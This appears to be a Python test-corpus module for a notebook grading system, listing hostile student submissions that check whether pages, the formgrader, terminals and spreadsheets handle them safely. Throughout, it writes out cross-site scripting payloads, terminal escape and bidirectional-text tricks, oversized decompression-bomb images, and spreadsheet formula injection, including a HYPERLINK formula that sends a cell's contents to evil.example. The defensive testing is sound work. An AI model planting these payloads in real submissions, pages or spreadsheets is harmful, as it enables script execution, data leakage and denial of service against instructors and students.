"""What an instructor or a student would see: pages, the formgrader, terminals and spreadsheets."""

from nbformat.v4 import new_markdown_cell, new_raw_cell

from .corpus import Hostile

SCRIPT = "<script>document.title = 'owned'</script>"
RICH = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
import IPython.display as shown
script = {SCRIPT!r}
display(HTML(script), Javascript("document.title = 'owned'"), Markdown(script))
display(Latex("$\\\\href{{javascript:alert(1)}}{{x}}$"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + script + "</svg>"))
display(shown.IFrame("javascript:alert(1)", 9, 9))
"""
BUNDLES = f"""
from IPython.display import display
script = {SCRIPT!r}
for kind in ("text/html", "application/javascript", "image/svg+xml", "text/markdown", "application/pdf", "text/plain",
             "application/vnd.jupyter.widget-view+json", "application/json", "image/png", "image/jpeg", "text/latex"):
    bundle = {{kind: '"><img src=x onerror=alert(1)>' + script, "text/plain": script}}
    display(bundle, raw=True, metadata={{kind: {{"unconfined": True}}}})
"""
CLASS_NAME = f"""
Owned = type({SCRIPT!r}, (Exception,), {{}})
def double(x):
    raise Owned("</code></pre></section>" + {SCRIPT!r} + "`" + {SCRIPT!r} + "`")
"""
CELL_ERROR = f"raise type('Error_<b>', (Exception,), {{}})('</pre>' + {SCRIPT!r})"
ESCAPES = """
import sys
for text in ("\\x1b]0;owned\\x07", "\\x1b[2J\\x1b[31mRight.", "\\x1b]52;c;b3duZWQ=\\x07", "\\x1b]8;;file:///etc/passwd\\x07x",
             "\\x9b31m", "\\x08" * 50, "\\r10 of 10", "\\u202egnp.exe", "\\u2066\\u200b\\ufeff", "\\x00", "\\ud800"):
    print(text)
    print(text, file=sys.stderr)
"""
MESSAGE_ESCAPES = 'def double(x):\n    raise ValueError("\\x1b]0;owned\\x07\\x1b[2J\\u202e\\r\\n=1+1")'
PICTURES = """
import base64, struct, zlib
from IPython.display import display
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
def picture(width, height, rows, extra=b""):
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = chunk(b"IHDR", head), extra, chunk(b"IDAT", zlib.compress(rows)), chunk(b"IEND", b"")
    return b"\\x89PNG\\r\\n\\x1a\\n" + b"".join(parts)
script = b"<script>document.title = 'owned'</script>"
for data in (
    picture(1, 1, b"\\0\\0", chunk(b"tEXt", b"Comment\\0" + script)) + script,
    picture(60_000, 60_000, bytes(1 << 20)),
    picture(1, 1, b"\\0\\0", chunk(b"iCCP", b"x\\0\\0" + zlib.compress(bytes(1 << 20)))),
    script,
    b"GIF89a" + script,
):
    display({"image/png": base64.b64encode(data).decode(), "text/plain": "picture"}, raw=True)
display({"image/png": "x' onerror='alert(1)", "text/plain": "picture"}, raw=True)
"""
MANY_SHOWN = """
from IPython.display import display
for number in range(3000):
    display(number)
"""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"mark")'
FORMULAS = "def double(x):\n    raise ValueError(\"=cmd|' /C calc'!A0\")"


def markdown(notebook):
    """Add cells whose text is live in a browser."""
    for text in (
        SCRIPT,
        f"```\n{SCRIPT}",
        f"````text\n```\n````\n{SCRIPT}",
        "[x](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
    ):
        notebook.cells.append(new_markdown_cell(text))
        notebook.cells.append(new_raw_cell(text))


WHITE = """
import io
from IPython.display import Image, display
from matplotlib import pyplot  # brings Pillow with it
from PIL import Image as Drawn
file = io.BytesIO()
Drawn.new("1", (1300, 1300), 1).save(file, "PNG")
for _ in range(10):
    display(Image(file.getvalue()))
"""

TURNED = "admin = False  # \u202e \u2066 if admin: \u2069 \u2066 \x1b[31m\u200b\ufeff\x9b31m\nname\u0301 = 1"

ENTRIES = (
    Hostile("rich", "HTML, SVG, JavaScript, markdown and frames", RICH),
    Hostile("bundles", "every type of output holds a script", BUNDLES),
    Hostile("markdown", "markdown and raw cells hold scripts", change=markdown),
    Hostile("class_name", "the error's name and message hold scripts", CLASS_NAME, "", status=("error",)),
    Hostile("cell_error", "an error of the cell holds a script", CELL_ERROR, "", status=("error",)),
    Hostile(
        "source",
        "the source itself closes the page's tags",
        f"'''</code></pre></details>{SCRIPT}'''",
        words="Returns nothing",
    ),
    Hostile(
        "backticks",
        "backticks around a script in a message",
        answer=f"def double(x):\n    raise ValueError('`{SCRIPT}`')".replace("'owned'", "1"),
        status=("error",),
    ),
    Hostile("terminal", "what clears, colours and renames a terminal is printed", ESCAPES),
    Hostile("terminal_message", "and stands in a message", answer=MESSAGE_ESCAPES, status=("error",)),
    Hostile("pictures", "images with scripts, images of gigabytes, images that are none", PICTURES),
    Hostile("white", "hundreds of pictures that are small as files and large on a page", before=(WHITE,) * 30),
    Hostile("many_shown", "thousands of outputs", MANY_SHOWN),
    Hostile("turned_source", "what turns the direction of a line stands in the source", TURNED),
    Hostile(
        "turned_twin",
        "a name that a terminal shows as another student's",
        student="\u2067000_1_right",
        status=("infrastructure",),
    ),
    Hostile("formula", "a message that a spreadsheet would run", answer=FORMULAS, status=("error",)),
    Hostile("formula_name", "a name that a spreadsheet would run", student=FORMULA.replace("/", "|")),
    Hostile("markup_name", "a name that a browser would run", student="<img src=x onerror=alert(1)>"),
    Hostile("quoted_name", "a name that leaves an attribute", student="\"'><svg onload=alert(1)>"),
    Hostile("escape_name", "a name that drives a terminal", student="x\x1b]0;owned\x07", status=("infrastructure",)),
    Hostile("line_name", "a name of two lines", student="x\n999 graded", status=("infrastructure",)),
    Hostile("turned_name", "a name that reads backwards", student="x\u202egraded", status=("infrastructure",)),
    Hostile("byte_name", "a name that is no UTF-8", student="x\udcff", status=("infrastructure",)),
    Hostile("long_name", "a name as long as the disk allows", student="x" * 255),
)
